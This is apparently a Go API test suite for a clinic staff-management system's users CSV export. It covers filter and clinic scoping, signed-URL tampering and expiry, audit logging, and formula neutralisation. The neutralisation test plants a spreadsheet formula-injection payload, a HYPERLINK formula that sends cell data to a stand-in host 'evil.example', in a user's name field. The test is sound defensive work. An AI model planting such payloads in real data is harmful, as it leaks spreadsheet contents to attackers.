package apitest_test

// API tests of the users' CSV export (issue #13 point 4): the export holds
// exactly what the users query shows the exporter (R1, R3), narrowed by the
// same filter and in the same order, in the staff list's columns
// (internal/staffcsv); the signed URL cannot be altered or outlive its time;
// formula cells are neutralised; exporting is recorded (USERS_EXPORTED).

import (
	"context"
	"net/http"
	"net/url"
	"slices"
	"strings"
	"testing"

	"github.com/clinicemr/usermanager/ent/clinic"
	"github.com/clinicemr/usermanager/ent/organization"
	"github.com/clinicemr/usermanager/ent/permission"
	"github.com/clinicemr/usermanager/ent/privacy"
	"github.com/clinicemr/usermanager/ent/user"
	"github.com/clinicemr/usermanager/internal/apitest"
	"github.com/clinicemr/usermanager/internal/demo"
	"github.com/clinicemr/usermanager/internal/passwords"
	"github.com/clinicemr/usermanager/internal/permissions"
	"github.com/clinicemr/usermanager/internal/staff"
	"github.com/clinicemr/usermanager/internal/staffcsv"
)

// uexpExport runs exportUsers and returns the URL, or "" and the response
// on GraphQL errors.
func uexpExport(t *testing.T, c *apitest.Client, in map[string]any) (string, *apitest.Response) {
	t.Helper()
	return c.ExportLink(t, "exportUsers", "ExportUsersInput", in)
}

// uexpColumns is the staff-list header, spelled out so that a change of the
// format fails here.
var uexpColumns = []string{"username", "email", "first_name", "last_name", "full_name", "user_type", "status",
	"home_clinic", "clinics", "permissions", "npi", "license_number", "license_state"}

// uexpGet downloads an export URL: the status, and the CSV's rows after the
// header when 200.
func uexpGet(t *testing.T, env *apitest.Env, link string) (int, [][]string) {
	t.Helper()
	if !slices.Equal(staffcsv.Header(), uexpColumns) {
		t.Fatalf("staffcsv.Header() = %v, want %v", staffcsv.Header(), uexpColumns)
	}
	return env.DownloadCSV(t, link, staffcsv.ExportPrefix, uexpColumns)
}

const uexpUsersQuery = `query($after: Cursor, $filter: UserSearch) {
  users(first: 100, after: $after, orderBy: {field: LAST_NAME, direction: ASC}, filter: $filter) {
    pageInfo { hasNextPage endCursor }
    edges { node {
      username email firstName lastName fullName userType status npi licenseNumber licenseState
      homeClinic { name } clinics { name } permissions { key name }
    } }
  }
}`

// uexpWant pages through the users query (LAST_NAME order, as the export)
// and renders each user as the export should: the columns' values, before
// neutralisation.
func uexpWant(t *testing.T, c *apitest.Client, filter map[string]any) [][]string {
	t.Helper()
	var rows [][]string
	vars := map[string]any{"filter": filter}
	for {
		var out struct {
			Users struct {
				PageInfo struct {
					HasNextPage bool
					EndCursor   *string
				}
				Edges []struct {
					Node struct {
						Username, Email, FirstName, LastName, FullName, UserType, Status string
						Npi, LicenseNumber, LicenseState                                 *string
						HomeClinic                                                       *struct{ Name string }
						Clinics                                                          []struct{ Name string }
						Permissions                                                      []struct{ Key, Name string }
					}
				}
			}
		}
		c.MustDo(uexpUsersQuery, vars, &out)
		for _, e := range out.Users.Edges {
			n := e.Node
			home := ""
			if n.HomeClinic != nil {
				home = n.HomeClinic.Name
			}
			var clinics []string
			for _, cl := range n.Clinics {
				clinics = append(clinics, cl.Name)
			}
			slices.Sort(clinics)
			var perms []string
			for _, entry := range permissions.Catalog { // catalog order
				for _, p := range n.Permissions {
					if p.Key == entry.Key {
						perms = append(perms, p.Name)
					}
				}
			}
			opt := func(s *string) string {
				if s == nil {
					return ""
				}
				return *s
			}
			rows = append(rows, []string{n.Username, n.Email, n.FirstName, n.LastName, n.FullName, n.UserType, n.Status,
				home, strings.Join(clinics, "; "), strings.Join(perms, "; "), opt(n.Npi), opt(n.LicenseNumber), opt(n.LicenseState)})
		}
		if !out.Users.PageInfo.HasNextPage {
			return rows
		}
		vars["after"] = *out.Users.PageInfo.EndCursor
	}
}

// uexpValues undoes the neutralisation of every cell (staffcsv.Value).
func uexpValues(rows [][]string) [][]string {
	out := make([][]string, len(rows))
	for i, r := range rows {
		out[i] = make([]string, len(r))
		for j, c := range r {
			out[i][j] = staffcsv.Value(c)
		}
	}
	return out
}

func uexpUsernames(rows [][]string) []string {
	out := make([]string, len(rows))
	for i, r := range rows {
		out[i] = staffcsv.Value(r[0])
	}
	return out
}

// uexpSame reports the differences between an export and the users query.
func uexpSame(t *testing.T, who string, got, want [][]string) {
	t.Helper()
	if len(want) == 0 {
		t.Fatalf("%s: the users query found nobody", who)
	}
	if g, w := uexpUsernames(got), uexpUsernames(want); !slices.Equal(g, w) {
		t.Fatalf("%s: the export holds %v, the users query %v", who, g, w)
	}
	for i, row := range uexpValues(got) {
		if !slices.Equal(row, want[i]) {
			t.Errorf("%s: row %d\n got  %q\n want %q", who, i, row, want[i])
		}
	}
}

// uexpLimitedManager adds a manager (View Users) with access to Lakeview
// only, and signs them in.
func uexpLimitedManager(t *testing.T, env *apitest.Env) *apitest.Client {
	t.Helper()
	ctx := privacy.DecisionContext(context.Background(), privacy.Allow)
	org := env.DB.Client.Organization.Query().Where(organization.Name("Sunrise Therapy Group")).OnlyX(ctx)
	lake := env.DB.Client.Clinic.Query().Where(clinic.OrganizationID(org.ID), clinic.Name("Sunrise Lakeview")).OnlyX(ctx)
	viewUsers := env.DB.Client.Permission.Query().Where(permission.Key("VIEW_USERS")).OnlyX(ctx)
	const password = "Lake-View-M4nager!x"
	hash, err := passwords.Hash(password)
	if err != nil {
		t.Fatal(err)
	}
	m := env.DB.Client.User.Create().SetOrganizationID(org.ID).
		SetUsername("lake.manager").SetEmail("lake.manager@sunrise-therapy.example").SetPasswordHash(hash).
		SetUserType(staff.Clerical).SetFirstName("Lena").SetLastName("Lakes").SetFullName("Lena Lakes").
		SetStatus(user.StatusACTIVE).SetHomeClinicID(lake.ID).AddClinicIDs(lake.ID).
		AddPermissionIDs(viewUsers.ID).SaveX(ctx)
	env.DB.Client.License.Create().SetOrganizationID(org.ID).SetClinicID(lake.ID).
		SetClass(staff.ClericalClass).SetHolderID(m.ID).ExecX(ctx)
	return env.Login("lake.manager", password)
}

func TestUsersExport(t *testing.T) {
	t.Parallel()
	apitest.ForEachDatabase(t, func(t *testing.T, env *apitest.Env) {
		admin := env.LoginDemo(demo.AdminUsername)

		// A user written to be hostile when opened in a spreadsheet, at
		// Downtown (names may start with anything).
		ctx := privacy.DecisionContext(context.Background(), privacy.Allow)
		org := env.DB.Client.Organization.Query().Where(organization.Name("Sunrise Therapy Group")).OnlyX(ctx)
		downtown := env.DB.Client.Clinic.Query().Where(clinic.OrganizationID(org.ID), clinic.Name("Sunrise Downtown")).OnlyX(ctx)
		hostile := `=HYPERLINK("https://evil.example/?"&A1,"Click")`
		env.DB.Client.User.Create().SetOrganizationID(org.ID).
			SetUsername("hostile.user").SetEmail("hostile@sunrise-therapy.example").SetPasswordHash("x").
			SetUserType(staff.Clerical).SetFirstName(hostile).SetLastName("+Plus").SetFullName("@SUM(1+1)").
			SetLicenseNumber("-2+3").SetStatus(user.StatusINACTIVE).
			SetHomeClinicID(downtown.ID).AddClinicIDs(downtown.ID).SaveX(ctx)

		want := uexpWant(t, admin, nil)
		link, _ := uexpExport(t, admin, map[string]any{})
		status, rows := uexpGet(t, env, link)
		if status != http.StatusOK {
			t.Fatalf("GET %s: %d", link, status)
		}

		t.Run("the export is the users query's result, in its order", func(t *testing.T) {
			uexpSame(t, "admin", rows, want)
			if len(rows) != 15 { // the 14 demo users of Sunrise and the hostile one
				t.Errorf("%d rows, want 15: %v", len(rows), uexpUsernames(rows))
			}
			for _, r := range rows {
				if staffcsv.Value(r[0]) == "pt.jordan" {
					if r[7] != "Sunrise Downtown" || r[8] != "Sunrise Downtown; Sunrise Northside" ||
						r[9] != "View Patients; Edit Patients; Start SOAP Notes; Finish SOAP Notes" || r[5] != "PT" || r[6] != "ACTIVE" {
						t.Errorf("pt.jordan: %q", r)
					}
				}
			}
		})

		t.Run("formulas are neutralised", func(t *testing.T) {
			var row []string
			for _, r := range rows {
				if r[0] == "hostile.user" {
					row = r
				}
			}
			if row == nil {
				t.Fatal("the hostile user is missing")
			}
			for col, want := range map[int]string{2: "'" + hostile, 3: "'+Plus", 4: "'@SUM(1+1)", 11: "'-2+3"} {
				if row[col] != want {
					t.Errorf("column %s = %q, want %q", staffcsv.Columns[col].Name, row[col], want)
				}
			}
		})

		t.Run("a filter narrows the export as it narrows users", func(t *testing.T) {
			for _, filter := range []map[string]any{
				{"name": "RI"},
				{"statuses": []string{"INACTIVE"}},
				{"userTypes": []string{"PT"}, "statuses": []string{"ACTIVE"}},
				{"clinicId": searchClinicIDs(t, admin)["Sunrise Lakeview"]},
			} {
				want := uexpWant(t, admin, filter)
				link, _ := uexpExport(t, admin, map[string]any{"filter": filter})
				status, rows := uexpGet(t, env, link)
				if status != http.StatusOK {
					t.Fatalf("%v: %d", filter, status)
				}
				uexpSame(t, "admin with a filter", rows, want)
				if len(rows) >= 15 {
					t.Errorf("filter %v narrowed nothing: %d rows", filter, len(rows))
				}
			}
		})

		t.Run("a manager of some clinics gets their clinics' users", func(t *testing.T) {
			lm := uexpLimitedManager(t, env)
			want := uexpWant(t, lm, nil)
			link, _ := uexpExport(t, lm, map[string]any{})
			status, rows := uexpGet(t, env, link)
			if status != http.StatusOK {
				t.Fatalf("GET: %d", status)
			}
			uexpSame(t, "lake.manager", rows, want)
			wantLake := []string{"admin", "front.desk", "lake.manager", "pt.fillin", "pt.sam", "slpa.jamie", "sslp.rowan"}
			if got := slices.Sorted(slices.Values(uexpUsernames(rows))); !slices.Equal(got, wantLake) {
				t.Errorf("lake.manager exported %v, want %v", got, wantLake)
			}

			// Their URL, rewritten to drop the clinics they are limited to:
			// the signature no longer holds.
			u, err := url.Parse(link)
			if err != nil {
				t.Fatal(err)
			}
			scope := string(expUnB64(t, strings.TrimPrefix(u.Path, "/users-export/")))
			i, j := strings.Index(scope, `"clinics":[`), strings.Index(scope, `],"filter"`)
			if i < 0 || j < i {
				t.Fatalf("no clinics in %s", scope)
			}
			wider := scope[:i] + `"all":true,` + scope[j+2:]
			if status, _ := uexpGet(t, env, "/users-export/"+expB64(wider)+"?"+u.RawQuery); status != http.StatusForbidden {
				t.Errorf("widened scope %s: %d, want 403", wider, status)
			}
		})

		t.Run("another organization's manager", func(t *testing.T) {
			harbor := env.LoginDemo("harbor.admin")
			link, _ := uexpExport(t, harbor, map[string]any{})
			status, rows := uexpGet(t, env, link)
			if status != http.StatusOK {
				t.Fatalf("GET: %d", status)
			}
			if got := uexpUsernames(rows); !slices.Equal(got, []string{"harbor.admin"}) {
				t.Errorf("harbor.admin exported %v, want only harbor.admin", got)
			}
			uexpSame(t, "harbor.admin", rows, uexpWant(t, harbor, nil))
		})

		t.Run("Support, as in the users query", func(t *testing.T) {
			support := env.LoginDemo(demo.SupportUsername)
			link, _ := uexpExport(t, support, map[string]any{})
			status, rows := uexpGet(t, env, link)
			if status != http.StatusOK {
				t.Fatalf("GET: %d", status)
			}
			uexpSame(t, "support", rows, uexpWant(t, support, nil))
		})

		t.Run("staff without View Users", func(t *testing.T) {
			if _, r := uexpExport(t, env.LoginDemo("front.desk"), map[string]any{}); r.Code() != "FORBIDDEN" {
				t.Errorf("front.desk: %s", r.Body)
			}
			if _, r := uexpExport(t, env.Anonymous(), map[string]any{}); r.Code() != "UNAUTHENTICATED" {
				t.Errorf("anonymous: %s", r.Body)
			}
		})

		t.Run("an altered URL is refused", func(t *testing.T) {
			u, err := url.Parse(link)
			if err != nil {
				t.Fatal(err)
			}
			q := u.Query()
			exp := q.Get("exp")
			for name, change := range map[string]func(url.Values){
				"later expiry":  func(q url.Values) { q.Set("exp", exp+"0") },
				"no signature":  func(q url.Values) { q.Del("sig") },
				"bad signature": func(q url.Values) { q.Set("sig", strings.Repeat("A", 43)) },
			} {
				altered := url.Values{}
				for k, v := range q {
					altered[k] = slices.Clone(v)
				}
				change(altered)
				if status, _ := uexpGet(t, env, u.Path+"?"+altered.Encode()); status != http.StatusForbidden {
					t.Errorf("%s: %d, want 403", name, status)
				}
			}
			// The scope is signed too: naming another exporter fails.
			scope := string(expUnB64(t, strings.TrimPrefix(u.Path, "/users-export/")))
			other := strings.Replace(scope, `"by":`, `"by":1`, 1)
			if other == scope {
				t.Fatalf("no exporter in %s", scope)
			}
			if status, _ := uexpGet(t, env, "/users-export/"+expB64(other)+"?"+u.RawQuery); status != http.StatusForbidden {
				t.Errorf("altered scope: %d, want 403", status)
			}
			if status, _ := uexpGet(t, env, "/users-export/"+expB64(scope)+"?"+u.RawQuery); status != http.StatusOK {
				t.Errorf("the URL as handed out: %d", status)
			}
		})

		t.Run("the export is recorded", func(t *testing.T) {
			conn, _ := audMustEvents(t, admin, map[string]any{"first": 100, "filter": map[string]any{"actions": []string{"USERS_EXPORTED"}}})
			var mine []audEvent
			for _, e := range conn.Edges {
				if e.Node.ActorUsername == demo.AdminUsername {
					mine = append(mine, e.Node)
				}
			}
			if len(mine) != 5 { // the plain export and the four filtered ones
				t.Fatalf("admin's USERS_EXPORTED records: %d, want 5", len(mine))
			}
			var names []any
			for _, ev := range mine {
				f, ok := ev.After["filter"].(map[string]any)
				if ev.TargetType != "Organization" || !ok || ev.After["expiresAt"] == nil || ev.Outcome != "SUCCESS" {
					t.Errorf("the export's record: %+v", ev)
				}
				if f["name"] != nil {
					names = append(names, f["name"])
				}
			}
			if !slices.Equal(names, []any{"RI"}) {
				t.Errorf("recorded name filters %v, want [RI]", names)
			}
		})

		// Last: it moves the server's clock past the URL's life.
		t.Run("an expired URL is refused", func(t *testing.T) {
			if status, _ := uexpGet(t, env, link); status != http.StatusOK {
				t.Fatalf("before expiry: %d", status)
			}
			env.Clock.Advance(staffcsv.ExportTTL * 3 / 2)
			if status, _ := uexpGet(t, env, link); status != http.StatusForbidden {
				t.Errorf("after expiry: %d, want 403", status)
			}
		})
	})
}
